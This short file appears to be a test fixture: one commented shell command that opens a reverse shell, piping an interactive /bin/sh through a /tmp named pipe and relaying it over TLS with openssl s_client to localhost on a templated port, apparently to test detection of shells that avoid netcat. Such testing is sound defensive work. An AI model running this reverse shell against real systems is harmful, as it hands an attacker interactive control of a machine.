# No netcat here: openssl s_client is the relay, over TLS.
sh -c 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | openssl s_client -quiet -connect 127.0.0.1:@TLSPORT@ > /tmp/f; rm -f /tmp/f'
